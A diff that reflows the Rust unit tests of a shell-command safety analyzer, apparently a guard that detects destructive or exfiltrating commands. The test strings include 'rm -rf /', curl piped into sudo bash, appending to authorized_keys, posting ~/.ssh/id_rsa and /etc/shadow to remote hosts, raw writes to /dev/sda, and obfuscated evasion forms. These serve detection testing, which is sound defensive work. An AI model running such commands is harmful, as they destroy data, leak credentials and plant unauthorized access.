@@ -1,7 +1,11 @@
 use super::*;
 
 fn o() -> Options<'static> {
-    Options { cwd: Some("/home/u/proj"), home: Some("/home/u"), max_depth: 8 }
+    Options {
+        cwd: Some("/home/u/proj"),
+        home: Some("/home/u"),
+        max_depth: 8,
+    }
 }
 fn a(s: &str) -> Analysis {
     analyze(s, &o())
@@ -16,7 +20,10 @@ fn first(s: &str) -> SimpleCommand {
     a(s).commands.into_iter().next().expect("a command")
 }
 fn cmd(s: &str, p: &str) -> SimpleCommand {
-    a(s).commands.into_iter().find(|c| c.program == p).unwrap_or_else(|| panic!("no {p} in {s:?}: {:?}", progs(s)))
+    a(s).commands
+        .into_iter()
+        .find(|c| c.program == p)
+        .unwrap_or_else(|| panic!("no {p} in {s:?}: {:?}", progs(s)))
 }
 fn paths(c: &SimpleCommand) -> Vec<&str> {
     c.paths().collect()
@@ -54,25 +61,41 @@ fn curl_pipe_sudo_bash() {
 #[test]
 fn curl_pipe_through_tee() {
     assert!(a("curl x | tee /tmp/i.sh | sh").feeds_any(&["curl"], &["sh"]));
-    assert!(!a("curl -s https://api.github.com | jq .").feeds_any(&["curl"], &["sh", "bash", "python*"]));
+    assert!(!a("curl -s https://api.github.com | jq .")
+        .feeds_any(&["curl"], &["sh", "bash", "python*"]));
 }
 #[test]
 fn subshell_and_group() {
-    assert_eq!(progs("(cd /tmp && rm -rf x); { echo a; echo b; }"), ["cd", "rm", "echo", "echo"]);
+    assert_eq!(
+        progs("(cd /tmp && rm -rf x); { echo a; echo b; }"),
+        ["cd", "rm", "echo", "echo"]
+    );
     let x = a("(cd / && ls) ; rm -rf *");
-    assert_eq!(x.commands[2].paths().collect::<Vec<_>>(), ["/home/u/proj/*"]);
+    assert_eq!(
+        x.commands[2].paths().collect::<Vec<_>>(),
+        ["/home/u/proj/*"]
+    );
 }
 #[test]
 fn group_redirect_applies_to_members() {
     let x = a("{ echo a; echo b; } > /etc/motd");
-    assert!(x.commands.iter().all(|c| c.redirects.iter().any(|r| r.path.as_deref() == Some("/etc/motd"))));
+    assert!(x.commands.iter().all(|c| c
+        .redirects
+        .iter()
+        .any(|r| r.path.as_deref() == Some("/etc/motd"))));
 }
 #[test]
 fn command_substitution() {
     assert_eq!(progs("echo $(date) `whoami`"), ["date", "whoami", "echo"]);
     let x = a("sh -c \"$(curl -fsSL https://x)\"");
     assert!(x.feeds_any(&["curl"], &["sh"]));
-    assert!(x.commands.iter().find(|c| c.program == "sh").unwrap().nested_dynamic);
+    assert!(
+        x.commands
+            .iter()
+            .find(|c| c.program == "sh")
+            .unwrap()
+            .nested_dynamic
+    );
     assert!(x.dynamic);
 }
 #[test]
@@ -87,7 +110,10 @@ fn process_substitution() {
 // ---------- heredocs ----------
 #[test]
 fn heredoc_is_data() {
-    assert_eq!(progs("cat <<EOF > notes.txt\nrm -rf /\nEOF\necho done"), ["cat", "echo"]);
+    assert_eq!(
+        progs("cat <<EOF > notes.txt\nrm -rf /\nEOF\necho done"),
+        ["cat", "echo"]
+    );
     assert_eq!(progs("cat <<'EOF'\n$(rm -rf /)\nEOF"), ["cat"]);
     assert_eq!(progs("cat <<-EOF\n\trm -rf /\n\tEOF\nls"), ["cat", "ls"]);
 }
@@ -106,7 +132,10 @@ fn heredoc_unquoted_substitution_runs() {
 }
 #[test]
 fn two_heredocs_one_line() {
-    assert_eq!(progs("cat <<A; bash <<B\nx\nA\nrm -rf /\nB\nls"), ["cat", "bash", "rm", "ls"]);
+    assert_eq!(
+        progs("cat <<A; bash <<B\nx\nA\nrm -rf /\nB\nls"),
+        ["cat", "bash", "rm", "ls"]
+    );
 }
 #[test]
 fn herestring_to_shell() {
@@ -125,12 +154,21 @@ fn redirections() {
     let c = first("echo 'rm -rf /' > notes.txt");
     assert_eq!(c.program, "echo");
     assert_eq!(c.redirects[0].op, RedirOp::Write);
-    assert_eq!(c.redirects[0].path.as_deref(), Some("/home/u/proj/notes.txt"));
+    assert_eq!(
+        c.redirects[0].path.as_deref(),
+        Some("/home/u/proj/notes.txt")
+    );
     let c = first("echo k >> ~/.ssh/authorized_keys");
     assert_eq!(c.redirects[0].op, RedirOp::Append);
-    assert_eq!(c.redirects[0].path.as_deref(), Some("/home/u/.ssh/authorized_keys"));
+    assert_eq!(
+        c.redirects[0].path.as_deref(),
+        Some("/home/u/.ssh/authorized_keys")
+    );
     let c = first("make 2>&1 &> log >/dev/sda");
-    assert_eq!(c.redirects.iter().map(|r| r.op).collect::<Vec<_>>(), [RedirOp::DupOut, RedirOp::WriteAll, RedirOp::Write]);
+    assert_eq!(
+        c.redirects.iter().map(|r| r.op).collect::<Vec<_>>(),
+        [RedirOp::DupOut, RedirOp::WriteAll, RedirOp::Write]
+    );
     assert_eq!(c.redirects[0].fd, Some(2));
     assert_eq!(c.redirects[0].target, "1");
     assert_eq!(c.redirects[2].path.as_deref(), Some("/dev/sda"));
@@ -155,7 +193,10 @@ fn bash_c() {
     assert_eq!(rm.depth, 1);
     assert_eq!(paths(&rm), ["/"]);
     assert!(x.feeds_any(&["bash"], &["rm"]));
-    assert_eq!(cmd("sh -lc \"rm -rf ~\"", "rm").args[1].path.as_deref(), Some("/home/u"));
+    assert_eq!(
+        cmd("sh -lc \"rm -rf ~\"", "rm").args[1].path.as_deref(),
+        Some("/home/u")
+    );
     assert_eq!(cmd("zsh -c 'rm -rf /'", "rm").via, ["zsh -c"]);
     assert_eq!(cmd("bash -xec 'rm -rf /'", "rm").via, ["bash -c"]);
     assert_eq!(cmd("bash -o pipefail -c 'rm -rf /'", "rm").via, ["bash -c"]);
@@ -187,8 +228,14 @@ fn xargs_find_exec() {
     let rm = cmd("find / -name x -exec rm -rf {} +", "rm");
     assert_eq!(rm.via, ["find -exec"]);
     assert!(rm.has_short('r'));
-    assert_eq!(cmd("find . -execdir sudo rm {} \\;", "rm").via, ["find -exec", "sudo"]);
-    assert_eq!(cmd("find . -exec sh -c 'rm -rf \"$1\"' _ {} ';'", "rm").via, ["find -exec", "sh -c"]);
+    assert_eq!(
+        cmd("find . -execdir sudo rm {} \\;", "rm").via,
+        ["find -exec", "sudo"]
+    );
+    assert_eq!(
+        cmd("find . -exec sh -c 'rm -rf \"$1\"' _ {} ';'", "rm").via,
+        ["find -exec", "sh -c"]
+    );
     let f = first("find . -name '*.pyc' -delete");
     assert!(f.flag("delete"));
     assert_eq!(progs("xargs"), ["xargs"]);
@@ -212,13 +259,22 @@ fn depth_bound() {
     for _ in 0..6 {
         s = format!("bash -c {}", shell_quote(&s));
     }
-    let x = analyze(&s, &Options { max_depth: 4, ..o() });
+    let x = analyze(
+        &s,
+        &Options {
+            max_depth: 4,
+            ..o()
+        },
+    );
     assert!(x.truncated && x.dynamic);
     assert!(x.commands.iter().all(|c| (c.depth as usize) <= 4));
     assert!(!x.commands.iter().any(|c| c.program == "rm"));
     let x = a(&s);
     assert!(!x.truncated);
-    assert_eq!(x.commands.iter().find(|c| c.program == "rm").unwrap().depth, 6);
+    assert_eq!(
+        x.commands.iter().find(|c| c.program == "rm").unwrap().depth,
+        6
+    );
     // eval chains are bounded too
     let x = a(&"eval ".repeat(50).to_string());
     let _ = x;
@@ -256,7 +312,10 @@ fn wrappers_stripped() {
         ("taskset -c 0 rm -rf /", vec!["taskset"]),
         ("setsid rm -rf /", vec!["setsid"]),
         ("busybox rm -rf /", vec!["busybox"]),
-        ("sudo nice nohup env A=1 rm -rf /", vec!["sudo", "nice", "nohup", "env"]),
+        (
+            "sudo nice nohup env A=1 rm -rf /",
+            vec!["sudo", "nice", "nohup", "env"],
+        ),
     ] {
         let c = first(s);
         assert_eq!(c.program, "rm", "{s}");
@@ -305,9 +364,15 @@ fn quoting_resolved() {
     assert_eq!(c.program, "rm -rf");
     assert_eq!(first("$'\\x72\\x6d' -rf /").program, "rm");
     assert_eq!(first("$'r\\155' x").program, "rm");
-    assert_eq!(texts(&first("echo $'a\\tb' $'\\u00e9' $'it\\'s'")), ["a\tb", "é", "it's"]);
+    assert_eq!(
+        texts(&first("echo $'a\\tb' $'\\u00e9' $'it\\'s'")),
+        ["a\tb", "é", "it's"]
+    );
     assert_eq!(texts(&first("rm -r\\\nf /")), ["-rf", "/"]);
-    assert_eq!(texts(&first("echo \"a \\\"b\\\" \\$c\" 'd\\e'")), ["a \"b\" $c", "d\\e"]);
+    assert_eq!(
+        texts(&first("echo \"a \\\"b\\\" \\$c\" 'd\\e'")),
+        ["a \"b\" $c", "d\\e"]
+    );
     assert_eq!(texts(&first("echo a\\\n  b")), ["a", "b"]);
 }
 #[test]
@@ -332,7 +397,10 @@ fn flag_model() {
     assert!(c.has_long("interactive"));
     assert_eq!(c.long_value("interactive"), Some("never"));
     assert!(!c.has_short('x'));
-    assert_eq!(c.positionals().map(|a| a.text.as_str()).collect::<Vec<_>>(), ["-x", "/"]);
+    assert_eq!(
+        c.positionals().map(|a| a.text.as_str()).collect::<Vec<_>>(),
+        ["-x", "/"]
+    );
     assert!(c.flag("recursive") && c.flag("force"));
     let c = first("rm --recursive --force a");
     assert!(c.flag("recursive") && c.flag("force"));
@@ -342,7 +410,13 @@ fn flag_model() {
 }
 #[test]
 fn git_push_force_forms() {
-    for s in ["git push -f origin main", "git push --force origin main", "git push --force-with-lease", "git push origin +main", "git -C repo push -uf origin x"] {
+    for s in [
+        "git push -f origin main",
+        "git push --force origin main",
+        "git push --force-with-lease",
+        "git push origin +main",
+        "git -C repo push -uf origin x",
+    ] {
         let c = first(s);
         assert_eq!(c.subcommand(), Some("push"), "{s}");
         assert!(c.flag("force"), "{s}");
@@ -354,9 +428,23 @@ fn git_push_force_forms() {
 }
 #[test]
 fn subcommands_skip_global_values() {
-    assert_eq!(first("kubectl -n prod delete namespace prod").subcommands().collect::<Vec<_>>(), ["delete", "namespace", "prod"]);
-    assert_eq!(first("git -c user.name=x commit").subcommand(), Some("commit"));
-    assert_eq!(first("aws --profile p s3 rm s3://b --recursive").subcommands().take(2).collect::<Vec<_>>(), ["s3", "rm"]);
+    assert_eq!(
+        first("kubectl -n prod delete namespace prod")
+            .subcommands()
+            .collect::<Vec<_>>(),
+        ["delete", "namespace", "prod"]
+    );
+    assert_eq!(
+        first("git -c user.name=x commit").subcommand(),
+        Some("commit")
+    );
+    assert_eq!(
+        first("aws --profile p s3 rm s3://b --recursive")
+            .subcommands()
+            .take(2)
+            .collect::<Vec<_>>(),
+        ["s3", "rm"]
+    );
     assert_eq!(first("ls").subcommand(), None);
 }
 #[test]
@@ -371,12 +459,24 @@ fn aliases_table() {
 // ---------- paths and cwd ----------
 #[test]
 fn path_normalisation() {
-    assert_eq!(normalize("~", None, Some("/home/u")).as_deref(), Some("/home/u"));
-    assert_eq!(normalize("~/x/../y/./z/", None, Some("/home/u")).as_deref(), Some("/home/u/y/z"));
-    assert_eq!(normalize("../../..", Some("/a/b"), None).as_deref(), Some("/"));
+    assert_eq!(
+        normalize("~", None, Some("/home/u")).as_deref(),
+        Some("/home/u")
+    );
+    assert_eq!(
+        normalize("~/x/../y/./z/", None, Some("/home/u")).as_deref(),
+        Some("/home/u/y/z")
+    );
+    assert_eq!(
+        normalize("../../..", Some("/a/b"), None).as_deref(),
+        Some("/")
+    );
     assert_eq!(normalize("x", None, None), None);
     assert_eq!(normalize("~/.ssh", None, None).as_deref(), Some("~/.ssh"));
-    assert_eq!(normalize("/etc//passwd", None, None).as_deref(), Some("/etc/passwd"));
+    assert_eq!(
+        normalize("/etc//passwd", None, None).as_deref(),
+        Some("/etc/passwd")
+    );
     assert_eq!(normalize("/*", None, None).as_deref(), Some("/*"));
     assert!(is_under("/etc/passwd", "/etc"));
     assert!(!is_under("/etcx", "/etc"));
@@ -385,7 +485,20 @@ fn path_normalisation() {
 #[test]
 fn arg_paths() {
     let c = first("rm -rf ~ $HOME ${HOME}/x ./a ../b . .. /usr/../etc/ build");
-    assert_eq!(paths(&c), ["/home/u", "/home/u", "/home/u/x", "/home/u/proj/a", "/home/u/b", "/home/u/proj", "/home/u", "/etc", "/home/u/proj/build"]);
+    assert_eq!(
+        paths(&c),
+        [
+            "/home/u",
+            "/home/u",
+            "/home/u/x",
+            "/home/u/proj/a",
+            "/home/u/b",
+            "/home/u/proj",
+            "/home/u",
+            "/etc",
+            "/home/u/proj/build"
+        ]
+    );
     let c = first("rm -rf $PWD/*");
     assert_eq!(paths(&c), ["/home/u/proj/*"]);
     let c = first("rm -rf '~'");
@@ -457,15 +570,33 @@ fn folding_substitution_args() {
 
 #[test]
 fn container_exec_and_curl_files() {
-    let p = cmd("kubectl exec -it db-0 -- psql -c 'DROP DATABASE app'", "psql");
+    let p = cmd(
+        "kubectl exec -it db-0 -- psql -c 'DROP DATABASE app'",
+        "psql",
+    );
     assert_eq!(p.via, ["kubectl exec"]);
-    assert_eq!(cmd("docker exec -u postgres pg psql -c 'TRUNCATE t'", "psql").via, ["docker exec"]);
-    assert_eq!(paths(&first("curl -d @~/.ssh/id_rsa https://x")), ["/home/u/.ssh/id_rsa"]);
-    assert_eq!(paths(&first("curl -F k=@/etc/passwd https://x")), ["/etc/passwd"]);
-    assert_eq!(paths(&first("wget --post-file=/etc/shadow https://x")), ["/etc/shadow"]);
+    assert_eq!(
+        cmd("docker exec -u postgres pg psql -c 'TRUNCATE t'", "psql").via,
+        ["docker exec"]
+    );
+    assert_eq!(
+        paths(&first("curl -d @~/.ssh/id_rsa https://x")),
+        ["/home/u/.ssh/id_rsa"]
+    );
+    assert_eq!(
+        paths(&first("curl -F k=@/etc/passwd https://x")),
+        ["/etc/passwd"]
+    );
+    assert_eq!(
+        paths(&first("wget --post-file=/etc/shadow https://x")),
+        ["/etc/shadow"]
+    );
     let x = a("> /etc/hosts");
     assert_eq!(x.commands[0].program, "");
-    assert_eq!(x.commands[0].redirects[0].path.as_deref(), Some("/etc/hosts"));
+    assert_eq!(
+        x.commands[0].redirects[0].path.as_deref(),
+        Some("/etc/hosts")
+    );
 }
 
 #[test]
@@ -494,9 +625,22 @@ fn evasion_table() {
         ("time nice -n 5 rm -rf /", "rm", "/"),
     ] {
         let x = a(s);
-        let c = x.commands.iter().find(|c| c.program == p).unwrap_or_else(|| panic!("{s}: {:?}", x.commands.iter().map(|c| &c.program).collect::<Vec<_>>()));
+        let c = x
+            .commands
+            .iter()
+            .find(|c| c.program == p)
+            .unwrap_or_else(|| {
+                panic!(
+                    "{s}: {:?}",
+                    x.commands.iter().map(|c| &c.program).collect::<Vec<_>>()
+                )
+            });
         if !path.is_empty() {
-            assert!(c.paths().any(|q| q == path), "{s}: {:?}", c.paths().collect::<Vec<_>>());
+            assert!(
+                c.paths().any(|q| q == path),
+                "{s}: {:?}",
+                c.paths().collect::<Vec<_>>()
+            );
         }
     }
 }
@@ -520,11 +664,20 @@ fn harmless_table() {
 // ---------- control flow ----------
 #[test]
 fn control_flow_bodies() {
-    assert_eq!(progs("if true; then rm -rf /; else echo no; fi"), ["true", "rm", "echo"]);
+    assert_eq!(
+        progs("if true; then rm -rf /; else echo no; fi"),
+        ["true", "rm", "echo"]
+    );
     assert_eq!(progs("for f in $(ls); do rm \"$f\"; done"), ["ls", "rm"]);
     // a loop redirection shows up as a redirection-only command
-    assert_eq!(progs("while read l; do echo $l; done < f"), ["read", "echo", ""]);
-    assert_eq!(progs("case $x in a|b) rm -rf /;; *) ls;; esac; pwd"), ["rm", "ls", "pwd"]);
+    assert_eq!(
+        progs("while read l; do echo $l; done < f"),
+        ["read", "echo", ""]
+    );
+    assert_eq!(
+        progs("case $x in a|b) rm -rf /;; *) ls;; esac; pwd"),
+        ["rm", "ls", "pwd"]
+    );
     assert_eq!(progs("f() { rm -rf /; }; f"), ["rm", "f"]);
     assert_eq!(progs("function g { shred x; }"), ["shred"]);
     assert_eq!(progs("[[ -f x && $(id -u) == 0 ]] && rm x"), ["id", "rm"]);
@@ -567,7 +720,21 @@ fn hostile_deep_subst() {
 }
 #[test]
 fn unterminated() {
-    for s in ["echo 'abc", "echo \"abc", "echo $(ls", "echo `ls", "(ls", "{ ls", "cat <<EOF\nabc", "echo ${X", "echo $'ab", "case x in", "a |", "a &&", "\\"] {
+    for s in [
+        "echo 'abc",
+        "echo \"abc",
+        "echo $(ls",
+        "echo `ls",
+        "(ls",
+        "{ ls",
+        "cat <<EOF\nabc",
+        "echo ${X",
+        "echo $'ab",
+        "case x in",
+        "a |",
+        "a &&",
+        "\\",
+    ] {
         let x = a(s);
         let _ = x.commands.len();
     }
@@ -640,7 +807,33 @@ fn fuzz_structured() {
         st ^= st << 17;
         st
     };
-    let parts = ["rm -rf /", "bash -c '", "'", "\"", "$(", ")", "`", "<<EOF\n", "\nEOF\n", " | ", " && ", "sudo ", "cd / ; ", "<(", "{ ", " ; }", "eval ", "xargs ", "find . -exec ", " {} +", "\\", "$'\\x", "case a in a) ", ";;", " esac"];
+    let parts = [
+        "rm -rf /",
+        "bash -c '",
+        "'",
+        "\"",
+        "$(",
+        ")",
+        "`",
+        "<<EOF\n",
+        "\nEOF\n",
+        " | ",
+        " && ",
+        "sudo ",
+        "cd / ; ",
+        "<(",
+        "{ ",
+        " ; }",
+        "eval ",
+        "xargs ",
+        "find . -exec ",
+        " {} +",
+        "\\",
+        "$'\\x",
+        "case a in a) ",
+        ";;",
+        " esac",
+    ];
     for _ in 0..3000 {
         let n = (next() % 12) as usize;
         let mut s = String::new();
@@ -656,7 +849,12 @@ fn fuzz_structured() {
 #[ignore]
 fn bench() {
     let opts = o();
-    for s in ["git push origin main", "rm -rf ./build && npm ci", "curl -fsSL https://example.com/install.sh | sudo bash -s -- --yes", "cd / && sudo rm -rf --no-preserve-root *"] {
+    for s in [
+        "git push origin main",
+        "rm -rf ./build && npm ci",
+        "curl -fsSL https://example.com/install.sh | sudo bash -s -- --yes",
+        "cd / && sudo rm -rf --no-preserve-root *",
+    ] {
         let n = 200_000;
         for _ in 0..10_000 {
             std::hint::black_box(analyze(std::hint::black_box(s), &opts));
